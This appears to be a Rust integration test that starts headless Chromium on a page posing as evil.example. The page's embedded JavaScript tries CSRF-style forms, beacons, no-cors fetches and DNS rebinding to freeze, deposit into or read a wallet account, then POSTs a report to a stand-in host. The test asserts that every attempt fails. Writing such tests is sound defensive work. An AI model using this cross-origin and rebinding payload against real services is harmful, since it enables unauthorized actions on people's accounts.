//! A web page that somebody on this machine has open, and that tries to freeze an account of a host without tokens,
//! or to read one.
//!
//! ```text
//! Chromium ── page of evil.example ──┬─▶ the host's port, as another origin: forms, beacons, images, script requests
//!                                    └─▶ evil.example, which now leads to the host (DNS rebinding)
//! ```
//! The page tries, and reports what it got. A wire between the page and the host notes what goes over it, because a
//! page that tries nothing proves nothing. The test needs Chromium; without it, it says so and is skipped.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};

use serde_json::Value;
use statehouse_tests::hold::PATIENCE;
use statehouse_tests::host::Host;
use statehouse_tests::skipped::skipped;
use statehouse_tests::wallet;
use tempfile::tempdir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;
use uuid::Uuid;

/// All that a page can do without permission, and then the same as its own origin. Every attempt ends before the
/// report.
const PAGE: &str = r#"<!doctype html><title>evil</title><body><script>
const node = 'http://NODE', alice = '/v1/wallet/accounts/alice';
const money = JSON.stringify({account: 'alice', amount: '1.00', currency: 'USD', transaction_id: 'ID'});
const ends = promise => promise.then(answer => answer.text()).then(text => 'read: ' + text, error => 'error: ' + error.name);
const loaded = (element, submit) => new Promise(done => {
    element.onload = element.onerror = done;
    document.body.append(element);
    submit();
});
const form = (path, type) => {
    const frame = Object.assign(document.createElement('iframe'), {name: path});
    const form = Object.assign(document.createElement('form'), {method: 'POST', action: node + path, enctype: type, target: path});
    document.body.append(form);
    return loaded(frame, () => form.submit());
};
(async () => {
    const report = {};
    report.freeze = await ends(fetch(node + alice + '/freeze', {method: 'POST', mode: 'no-cors'}));
    report.deposit = await ends(fetch(node + '/v1/wallet/deposit', {method: 'POST', mode: 'no-cors', body: money}));
    report.json = await ends(fetch(node + alice + '/freeze', {method: 'POST', headers: {'content-type': 'application/json'}}));
    report.read = await ends(fetch(node + alice));
    report.opaque = await ends(fetch(node + alice, {mode: 'no-cors'}));
    report.beacon = navigator.sendBeacon(node + alice + '/freeze');
    await form(alice + '/freeze', 'application/x-www-form-urlencoded');
    await form(alice + '/close', 'text/plain');
    const image = new Image();
    await loaded(image, () => { image.src = node + alice; });
    // From here on evil.example leads to the node.
    await fetch('/rebind');
    report.rebound = await ends(fetch(alice));
    const sent = {method: 'POST', headers: {'content-type': 'application/json'}};
    report.reboundFreeze = await ends(fetch(alice + '/freeze', sent));
    report.reboundDeposit = await ends(fetch('/v1/wallet/deposit', {...sent, body: money}));
    // Under another name, since the connection to this one is the node's now.
    const to = `http://report.example:${location.port}/report`;
    await fetch(to, {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
})();
</script>"#;

/// What Chromium needs in order to start anywhere, and to talk to nobody.
const ARGUMENTS: [&str; 12] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--disable-dev-shm-usage",
    "--disable-extensions",
    "--no-first-run",
    "--no-proxy-server",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP *.example 127.0.0.1",
];

fn find_chromium() -> Option<PathBuf> {
    let folders = std::env::var_os("PATH").unwrap_or_default();
    let mut files = std::env::split_paths(&folders)
        .flat_map(|folder| ["chromium", "chromium-browser"].map(|name| folder.join(name)));
    files.find(|file| file.is_file())
}

fn page(node: SocketAddr) -> String {
    PAGE.replace("NODE", &node.to_string()).replace("ID", &Uuid::new_v4().to_string())
}

struct Browser(Child);

impl Browser {
    fn open(chromium: &PathBuf, profile: &std::path::Path, url: &str) -> Self {
        let profile = format!("--user-data-dir={}", profile.display());
        let mut command = Command::new(chromium);
        command.args(ARGUMENTS).arg(profile).arg(url).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        Self(command.spawn().expect("Chromium can be started"))
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // Both calls fail only if the process has ended.
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// The heads of the requests that went over a wire.
type NotedHeads = Arc<Mutex<String>>;

/// Carries bytes between a client and the node, and notes what the client sends.
async fn carry(mut client: TcpStream, begun: Vec<u8>, node: SocketAddr, noted: NotedHeads) {
    let Ok(mut node) = TcpStream::connect(node).await else { return };
    let note = |bytes: &[u8]| noted.lock().expect("noting does not panic").push_str(&String::from_utf8_lossy(bytes));
    note(&begun);
    if node.write_all(&begun).await.is_err() {
        return;
    }
    let (mut up, mut down) = ([0; 4096], [0; 4096]);
    loop {
        let done = tokio::select! {
            read = client.read(&mut up) => match read {
                Ok(count) if count > 0 => {
                    note(&up[..count]);
                    node.write_all(&up[..count]).await.is_err()
                }
                _ => true,
            },
            read = node.read(&mut down) => match read {
                Ok(count) if count > 0 => client.write_all(&down[..count]).await.is_err(),
                _ => true,
            },
        };
        if done {
            return;
        }
    }
}

/// A port that leads everybody who connects there to the node.
async fn wire(node: SocketAddr, noted: NotedHeads) -> SocketAddr {
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.expect("a free port");
    let address = listener.local_addr().expect("bound");
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            tokio::spawn(carry(client, Vec::new(), node, noted.clone()));
        }
    });
    address
}

/// evil.example: it serves its page and takes the report. Every other request goes to the node once the page has
/// asked for that.
async fn evil(page: String, node: SocketAddr, noted: NotedHeads, reports: mpsc::Sender<Value>) -> SocketAddr {
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.expect("a free port");
    let address = listener.local_addr().expect("bound");
    tokio::spawn(async move {
        while let Ok((mut client, _)) = listener.accept().await {
            let (page, noted, reports) = (page.clone(), noted.clone(), reports.clone());
            tokio::spawn(async move {
                let Some(request) = read_request(&mut client).await else { return };
                let text = String::from_utf8_lossy(&request).into_owned();
                let path = text.split(' ').nth(1).unwrap_or_default();
                if path.starts_with("/v1/") {
                    return carry(client, request, node, noted).await;
                }
                let body = if path == "/" { page.as_str() } else { "" };
                if path == "/report" {
                    let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
                    // Nobody waits any more after the first report.
                    reports.try_send(serde_json::from_str(body).expect("the page reports JSON")).ok();
                }
                let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length:";
                client.write_all(format!("{head} {}\r\n\r\n{body}", body.len()).as_bytes()).await.ok();
            });
        }
    });
    address
}

/// One request with its body, or `None` when the client sends none.
async fn read_request(client: &mut TcpStream) -> Option<Vec<u8>> {
    let (mut request, mut piece) = (Vec::new(), [0; 4096]);
    loop {
        let count = client.read(&mut piece).await.ok().filter(|count| *count > 0)?;
        request.extend_from_slice(&piece[..count]);
        let text = String::from_utf8_lossy(&request).to_ascii_lowercase();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
            if length.unwrap_or(0) <= body.len() {
                return Some(request);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_origin_neither_freezes_an_account_nor_reads_one() {
    let Some(chromium) = find_chromium() else {
        return skipped("there is no Chromium; the package of Debian is `chromium`");
    };
    let (data, profile) = (tempdir().expect("a temporary folder"), tempdir().expect("a temporary folder"));
    let host = Host::start(data.path()).await;
    let mut client = host.client();
    wallet::open(&mut client, "alice").await;
    wallet::deposit(&mut client, "alice", 100).await;
    let before = wallet::account(&mut client, "alice").await.json();
    let noted = NotedHeads::default();
    let (sender, mut reports) = mpsc::channel(1);
    let node = wire(host.address(), noted.clone()).await;
    let evil = evil(page(node), host.address(), noted.clone(), sender).await;
    let browser = Browser::open(&chromium, profile.path(), &format!("http://evil.example:{}/", evil.port()));
    let report = tokio::time::timeout(PATIENCE, reports.recv()).await.expect("the page reports");
    let report = report.expect("the page's server runs");
    drop(browser);

    // The page has tried: from another origin, by a form, and under the name that leads to the node.
    let noted = noted.lock().expect("noting does not panic").clone();
    for tried in [
        "POST /v1/wallet/accounts/alice/freeze",
        "POST /v1/wallet/deposit",
        "POST /v1/wallet/accounts/alice/close",
        "GET /v1/wallet/accounts/alice",
        "Content-Type: application/x-www-form-urlencoded",
        "Host: evil.example",
        "Sec-Fetch-Site: cross-site",
    ] {
        assert!(noted.contains(tried), "the page has not tried `{tried}`: {noted}");
    }
    let said = |name: &str| report[name].as_str().unwrap_or_else(|| panic!("no `{name}` in {report}")).to_owned();
    for unread in ["json", "read"] {
        assert_eq!(said(unread), "error: TypeError", "{unread}: {report}");
    }
    for opaque in ["freeze", "deposit", "opaque"] {
        assert!(["read: ", "error: TypeError"].contains(&said(opaque).as_str()), "{opaque}: {report}");
    }
    for refused in ["rebound", "reboundFreeze", "reboundDeposit"] {
        assert!(said(refused).contains("foreign_host") && !said(refused).contains("balances"), "{refused}: {report}");
    }
    assert_eq!(wallet::account(&mut client, "alice").await.json(), before, "nothing has changed");
    let answer = client.get("/v1/wallet/accounts/alice/history").await.expect("the host answers").json();
    assert!(!answer.to_string().to_lowercase().contains("frozen"), "{answer}");
}
